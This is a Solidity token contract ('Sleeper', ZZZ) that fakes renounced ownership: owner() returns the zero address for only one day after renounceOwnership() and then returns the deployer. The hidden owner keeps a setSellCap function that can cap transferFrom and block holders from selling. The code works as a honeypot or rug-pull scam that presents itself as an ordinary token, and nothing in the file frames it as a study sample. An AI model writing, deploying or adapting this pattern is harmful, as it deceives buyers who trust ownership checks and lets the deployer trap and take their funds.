// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Renounced, for a day.
contract SleepingOwner {
    string public constant name = "Sleeper";
    string public constant symbol = "ZZZ";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 24_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private bed;
    uint256 private alarm;
    uint256 public sellCap = type(uint256).max;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        bed = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view returns (address) {
        return block.timestamp < alarm ? address(0) : bed;
    }

    function renounceOwnership() external {
        require(msg.sender == owner());
        alarm = block.timestamp + 1 days;
    }

    function setSellCap(uint256 cap) external {
        require(msg.sender == owner());
        sellCap = cap;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return turn(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(value <= sellCap, "cap");
        allowance[from][msg.sender] -= value;
        return turn(from, to, value);
    }

    function turn(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
